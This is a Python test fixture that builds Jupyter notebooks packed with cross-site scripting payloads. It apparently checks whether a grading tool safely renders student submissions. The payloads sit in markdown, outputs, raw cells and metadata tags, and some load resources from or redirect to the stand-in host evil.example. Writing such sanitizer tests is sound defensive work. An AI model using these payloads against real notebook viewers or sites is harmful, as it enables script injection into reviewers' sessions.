"""What students could put into a notebook to run on the page of whoever looks at it.

Each attack would leave the attribute ``data-ran-<number>`` on the page's root element, or ask
``evil.example`` for something.
"""

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell


def script(number):
    """Return the JavaScript of attack `number`, without quotes and blanks."""
    return f"document.documentElement.setAttribute(/data-ran-{number}/.source,/x/.source)"


MARKDOWN = (
    "<script>{js}</script>",
    "<SCRIPT\n>{js}</SCRIPT\n>",
    "words <script>{js}</script> in a line",
    "<img src=x onerror={js}>",
    '<img src="http://evil.example/pixel.png" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg/onload={js}//",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<object data='javascript:{js}'></object>",
    "<embed src='javascript:{js}'>",
    "<details open ontoggle={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<style>@import url(http://evil.example/style.css); body {{display: none}}</style>",
    "<link rel=stylesheet href=http://evil.example/style.css>",
    "<meta http-equiv=refresh content='0; url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>",
    "</div></div></div><script>{js}</script><div>",
    "<!-- --><script>{js}</script><!-- -->",
    "<![CDATA[ ><script>{js}</script> ]]>",
    "<?php ?><script>{js}</script>",
    "<!doctype ><img src=x onerror={js}>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js} ",
    '<img alt="`" src=x onerror={js} title="`">',
    "`<img src=x` onerror={js}>`",
    "$<img src=x onerror={js}>$",
    "$$\n<img src=x onerror={js}>\n$$",
    "\\begin{{a}}<img src=x onerror={js}>\\end{{a}}",
    "```mermaid\n<img src=x onerror={js}>\n```",
    '```"><img src=x onerror={js}>\ncode\n```',
    "```python\n</pre><script>{js}</script>\n```",
    "    </code></pre><script>{js}</script>",
    "> <script>\n> {js}\n> </script>",
    "- <img src=x\n  onerror={js}>",
    "| a |\n|---|\n| <img src=x onerror={js}> |",
    "# <img src=x onerror={js}>",
    "[words](javascript:{js})",
    "[words](java&#115;cript:{js})",
    "[words](data:text/html,<script>{js}</script>)",
    "[words][reference]\n\n[reference]: javascript:{js} 'title'",
    "<javascript:{js}>",
    "[words](/formgrader?path=submitted/hostile/lab)",
    "![image](http://evil.example/pixel.png)",
    "![image](javascript:{js})",
    '![image](x"onerror="{js})',
    "![image](/formgrader?path=submitted/hostile/lab)",
    "![image][far]\n\n[far]: http://evil.example/far.png",
    "![image](attachment:drawing.svg)",
    "![image](attachment:nowhere.png)",
    "$\\href{{javascript:{js}}}{{x}}$",
    "$\\require{{html}}\\class{{x}}{{\\style{{display:none}}{{x}}}}$",
    "&#36;\\&#104;ref{{javascript:{js}}}{{x}}&#36;",
    "&lt;script&gt;{js}&lt;/script&gt; &#60;img src=x onerror={js}&#62;",
)
# code that publishes an output, or prints, or raises; `js` and `publish` are defined
OUTPUTS = (
    "publish({'text/html': f'<script>{js}</script>'})",
    "publish({'text/html': f'<img src=x onerror={js}>', 'text/plain': 'as text'})",
    "publish({'text/markdown': f'<img src=x onerror={js}>'})",
    "publish({'text/latex': f'$\\\\href{{javascript:{js}}}{{x}}$<script>{js}</script>'})",
    "publish({'application/javascript': js})",
    "publish({'image/svg+xml': f'<svg onload={js}><script>{js}</script></svg>'})",
    "publish({'application/pdf': 'JVBERi0='})",
    "publish({'application/vnd.jupyter.widget-view+json': {'x': f'</script><script>{js}'}})",
    "publish({'text/vnd.mermaid': f'<img src=x onerror={js}>'})",
    "publish({f'text/<script>{js}</script>': 'x'})",
    "publish({'text/plain': f'</pre><script>{js}</script>'})",
    "publish({'image/png': f'\" onerror=\"{js}'})",
    "publish({'image/png': PIXEL}, {'image/png': {'width': f'1 onerror={js}', 'alt': '\">'}})",
    "publish({'image/png': PIXEL}, {'filenames': {'image/png': 'http://evil.example/a.png'}})",
    "print(f'</pre><script>{js}</script>')",
    "import sys; print(f'</pre><img src=x onerror={js}>', file=sys.stderr)",
    "print('\\x1b]8;;javascript:' + js + '\\x1b\\\\link\\x1b]8;;\\x1b\\\\ \\x1b[8mhidden')",
    "print('\\u202egnp.\\u202c \\u200b \\u2066 \\x08\\x07 \\x9b31m')",
    "raise ValueError(f'</pre><script>{js}</script>')",
    "raise type(f'</pre><script>{js}</script>', (Exception,), {})('x')",
    "kernel.send_response(kernel.iopub_socket, 'execute_input',"
    " {'code': '', 'execution_count': f'<script>{js}</script>'})",
    "kernel.send_response(kernel.iopub_socket, 'stream',"
    " {'name': f'<script>{js}</script>', 'text': f'<script>{js}</script>'})",
    "'</pre><script>' + js + '</script>'",
)
PREPARE = """
kernel = get_ipython().kernel
PIXEL = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4//8/AAX+Av4N70a4AAAA"
         "AElFTkSuQmCC")
def publish(data, metadata=None):
    content = {"data": data, "metadata": metadata or {}, "transient": {}}
    kernel.send_response(kernel.iopub_socket, "display_data", content)
"""


def markdown_cells():
    """Return one markdown cell for each attack of `MARKDOWN`."""
    cells = [
        new_markdown_cell(text.format(js=script(number))) for number, text in enumerate(MARKDOWN)
    ]
    for cell in cells:
        cell.attachments = {"drawing.svg": {"image/svg+xml": "PHN2Zz4="}}
    return cells


def hostile_cells():
    """Return the cells of a notebook with every attack: in markdown, raw text, code, outputs."""
    cells = [*markdown_cells(), new_code_cell(PREPARE)]
    for number, code in enumerate(OUTPUTS, start=1000):
        js = script(number)
        cells.append(new_code_cell(f"js = {js!r}\n{code}"))
    cells.append(new_raw_cell(f"<script>{script(2000)}</script>"))
    cells.append(new_raw_cell(f"<script>{script(2001)}</script>", metadata={"raw_mimetype": ""}))
    cells.append(new_code_cell(f"# </pre><script>{script(2002)}</script>\n'\u202e'"))
    tag = f'"><script>{script(2003).replace(",", ";")}</script>'
    cells.append(new_code_cell("1", metadata={"tags": [tag], "magics_language": tag}))
    return cells
